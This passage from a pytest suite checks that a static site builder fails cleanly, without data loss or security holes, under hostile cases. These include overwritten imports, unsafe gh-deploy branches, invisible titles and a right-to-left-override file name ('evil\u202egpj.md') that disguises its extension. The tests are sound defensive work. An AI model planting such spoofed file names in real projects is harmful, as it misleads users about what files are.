        "was imported; to keep your edits, import into another folder (--output), or pass "
        "--overwrite to replace it",
        config=False,
        lost=edit_lost,
    ),
    Case(
        "import basil with its record nested too deeply",
        import_record_nested_deeply,
        ("import", "basil", "{site}/../basil", "--output", "{site}/content"),
        1,
        "Error: {site}/content/2014-senate-passes-the-budget/fox-news.md: changed since it "
        "was imported; to keep your edits, import into another folder (--output), or pass "
        "--overwrite to replace it",
        config=False,
        lost=edit_lost,
    ),
    # 6. gh-deploy
    Case(
        "gh-deploy --branch main, the branch checked out",
        site_repository,
        ("gh-deploy", "--no-push", "--branch", "main"),
        1,
        "Error: the 'main' branch is checked out; gh-deploy would replace its tip with the "
        "built site: choose another --branch, such as gh-pages",
        lost=tip_replaced,
    ),
    Case(
        "gh-deploy --branch @",
        site_repository,
        ("gh-deploy", "--no-push", "--branch", "@"),
        1,
        "Error: '@' is not a valid git branch name; choose another --branch, such as gh-pages",
        lost=tip_replaced,
    ),
    Case(
        "gh-deploy of a site outside the repository",
        another_repository,
        ("gh-deploy", "--no-push"),
        1,
        "Error: {site}: the site's folder is outside the git repository here "
        "({outside}/repo); run gh-deploy inside the site's own repository",
        cwd="{outside}/repo",
    ),
    # 7. tracebacks
    Case(
        "new with a 300-character name",
        nothing,
        ("new", LONG),
        1,
        f"Error: {LONG}: cannot make the site here: File name too long",
        config=False,
    ),
    Case("align --explain | head", nothing, ("align", "--explain"), 1, run=reader_gone),
    Case(
        "import basil | head",
        lambda site, outside: basil_corpus(site),
        ("import", "basil", "{site}/../basil", "--output", "{site}/content"),
        1,
        config=False,
        run=reader_gone,
    ),
    *(
        Case(
            f"Ctrl-C {share:.0%} of the way through a build",
            lambda site, outside: edit(site),
            ("build",),
            130,
            STOPPED_BUILD,
            run=ctrl_c_after(share),
        )
        for share in (0.0, 0.1, 0.2, 0.35, 0.5)
    ),
    Case(
        "build --dask 'not a url'",
        nothing,
        ("build", "--dask", "not a url"),
        1,
        "Error: --dask 'not a url' is not a scheduler address (missing port number in "
        "address 'not a url'); write it as tcp://HOST:PORT, e.g. tcp://10.0.0.5:8786",
        needs=("distributed",),
    ),
    Case(
        "build --jobs x",
        nothing,
        ("build", "--jobs", "x"),
        2,
        "Error: site-builder build: argument --jobs/-j: must be a whole number of 1 or more, "
        "not 'x' (see 'site-builder build --help')",
    ),
    # 8. what messages and pages show
    Case(
        "a title of zero-width spaces",
        invisible_title,
        ("build", "-q"),
        1,
        "Error: {site}/content/talks/alpha.md:2: 'title' must have a character a reader can "
        "see, got only invisible ones ('\\u200b\\u200b')",
    ),
    Case(
        "a right-to-left override in a file name",
        right_to_left_name,
        ("build", "-q"),
        1,
        "Error: {site}/content/talks/evil\\u202egpj.md:4: date '2022-02-30' is not a date; "
        "write it as YYYY-MM-DD, YYYY-MM or YYYY (or 'unknown')",
    ),
]
assert len({case.name for case in CASES}) == len(CASES)


# --- judging a run ---------------------------------------------------------------------

OUTCOMES = ("clear error", "traceback", "hang", "data lost", "hole", "other")


@dataclass
class Judged:
    """How a case went: the outcome, and why when it is not the one wanted."""

    outcome: str
    why: str = ""


def untrue_of_a_stopped_build(result: Result, output: Path, before: str) -> str:
    """What is wrong with what a build of the one-story small site, stopped by Ctrl-C,
    said ('' if nothing): one of its lines, and true of the output it left (as it was,
    or the new site, whole)."""
    now = folder_hash(output)
    kept = "; at least 1 of 1 stories are built and kept in the build cache: the next build "
    as_it_was = f"Stopped. {output} is as it was (the previous site)"
    if result.stderr in ("Stopped.\n", f"{as_it_was}.\n", f"{as_it_was}{kept}starts from them.\n"):
        return "" if now == before else f"said {result.stderr!r}, but output/ changed"
    if result.stderr == f"Stopped. The new site was already in place in {output}.\n":
        return "" if now == result.whole else "said the new site is in place; it is not"
    return f"said {result.stderr[:400]!r}"


def judge(case: Case, site: Path, outside: Path, result: Result, before: dict) -> Judged:
    """The outcome of `result`: 'clear error' when the command did what the case asks
    (its one line, or a successful build with its warning), else the worst harm seen."""
    fill = lambda text: filled(text, site, outside, result.url)  # noqa: E731
    if result.code is None:
        return Judged("hang")
    if case.hole(site, outside, result):
        return Judged("hole", "the hole is open")
    if case.lost(site, outside, result):
        return Judged("data lost", "the user's data was lost")
    if folder_hash(outside) != before["outside"]:
        return Judged("hole", "a folder outside the site changed")
    if "Traceback" in result.stderr or result.code < 0 or "Exception ignored" in result.stderr:
        return Judged("traceback", f"exit {result.code}: {result.stderr[-3000:]}")
    if result.code != case.code:
        return Judged("other", f"exit {result.code}, not {case.code}: {result.stderr[:300]}")
    if case.line == STOPPED_BUILD:
        untrue = untrue_of_a_stopped_build(result, site / "output", before["output"])
        if untrue:
            return Judged("other", untrue)
    elif case.line is not None and result.stderr != fill(case.line) + "\n":
        return Judged("other", f"said {result.stderr[:400]!r}")
    if case.line is None and case.warning is None and result.stderr:
        return Judged("other", f"said {result.stderr[:400]!r}")
    if case.warning is not None and fill(case.warning) not in result.stderr:
        return Judged("other", f"no warning {fill(case.warning)!r}: {result.stderr[:400]!r}")
    if case.code != 0 and folder_hash(site / "output") not in (before["output"], result.whole):
        return Judged("other", "output/ changed although the command failed (not to the new site)")
    return Judged("clear error")


def prepare(case: Case, built: Path, root: Path) -> tuple[Path, Path, dict]:
    """A copy of the built site at root/site, the folder root/outside, the case made;
    the hashes of output/ and outside/ before the command."""
    site, outside = root / "site", root / "outside"
    shutil.copytree(built, site, symlinks=True)
    outside.mkdir()
    victim(outside)
    case.make(site, outside)
    return site, outside, {"output": folder_hash(site / "output"), "outside": folder_hash(outside)}


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    return small_site(tmp_path_factory.mktemp("built") / "site")


def missing_module(names: tuple[str, ...]) -> str | None:
    import importlib.util

    return next((name for name in names if importlib.util.find_spec(name) is None), None)


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_an_attack_on_the_build_s_own_files_or_commands(built, tmp_path, case):
    missing = missing_module(case.needs)
    if missing:
        pytest.skip(f"needs {missing}")
    site, outside, before = prepare(case, built, tmp_path)
    try:
        result = run_case(case, site, outside)
        judged = judge(case, site, outside, result, before)
        assert judged.outcome == "clear error", f"{judged.outcome}: {judged.why}"
        if case.cold and case.code == 0:
            cold = run_plain(
                case,
                site,
                outside,
                [*argv(case, site, outside), "--no-cache", "--output", str(tmp_path / "cold")],
            )
            assert cold.code == 0, cold.stderr
            assert tree_bytes(site / "output") == tree_bytes(tmp_path / "cold")
    finally:
        case.cleanup(site, outside)


def test_a_re_import_with_overwrite_replaces_the_edited_article(built, tmp_path):
    site, outside, _ = prepare(Case("plain", nothing, (), 0), built, tmp_path)
    edited_after_import(site, outside)
    command = [sys.executable, "-m", "site_builder", "import", "basil", str(site.parent / "basil")]
    done = subprocess.run(
        [*command, "--output", str(site / "content"), "--overwrite"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert edit_lost(site, outside, Result(0))


def test_a_re_import_of_unchanged_articles_succeeds(built, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(built, site, symlinks=True)
    root = basil_corpus(site)
    command = [sys.executable, "-m", "site_builder", "import", "basil", str(root)]
    imported = []
    for _ in range(2):
        done = subprocess.run(
            [*command, "--output", str(site / "content")], capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr
        imported.append(tree_bytes(site / "content" / "2014-senate-passes-the-budget"))
    assert imported[0] == imported[1]
    assert {"fox-news.md", "new-york-times.md"} <= set(imported[0])


def test_the_cache_holds_no_pickle_and_no_compiled_code(built):
    names = [p.name for p in (built / CACHE).rglob("*") if p.is_file()]
    assert names and not [n for n in names if n.endswith((".pickle", ".cache", ".pyc"))]
    assert not (built / CACHE / "templates").exists()


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", None])
def test_the_preview_answers_requests_for_this_computer(built, tmp_path, host):
    case = Case("plain", nothing, ("serve", "-q"), 0, run=serving("/", host=host))
    site, outside, _ = prepare(case, built, tmp_path)
    result = run_case(case, site, outside)
    assert result.answer is not None and result.answer[0] == 200, result
    assert b"The talks" in result.answer[1]
